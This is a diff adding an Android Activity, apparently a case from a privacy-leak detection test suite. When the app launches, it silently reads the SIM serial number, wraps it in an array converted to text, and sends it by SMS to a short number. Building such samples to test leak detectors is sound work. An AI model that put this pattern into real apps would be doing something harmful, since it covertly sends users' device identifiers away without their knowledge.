@@ -1,0 +1,17 @@
+package cn.privlens.suite.array_as_text;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+import java.util.Arrays;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        String[] parts = {"v1", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber(), "end"};
+        String line = Arrays.toString(parts);
+        SmsManager.getDefault().sendTextMessage("10690000", null, line, null, null);
+    }
+}
